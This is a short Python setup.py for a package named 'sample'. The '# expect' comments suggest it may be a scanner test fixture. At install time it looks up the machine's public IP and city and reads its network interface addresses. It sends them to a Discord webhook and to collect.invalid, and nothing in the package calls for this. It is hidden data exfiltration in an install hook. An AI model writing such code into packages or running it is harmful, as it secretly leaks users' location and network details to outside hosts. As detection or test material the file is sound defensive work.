# file: setup.py
import json
import socket
import urllib.request
import psutil
import requests
from setuptools import setup

HOOK = "https://discord.com/api/webhooks/0/x"
ip = requests.get("https://api.ipify.org").text
requests.post(HOOK, json={"content": ip})  # expect

where = json.loads(urllib.request.urlopen("https://ipinfo.io/json").read())
message = f"{where['city']} {where['ip']}"
urllib.request.urlopen(urllib.request.Request(HOOK, data=message.encode()))  # expect
requests.post("https://collect.invalid/n", json=psutil.net_if_addrs())  # expect
setup(name="sample")
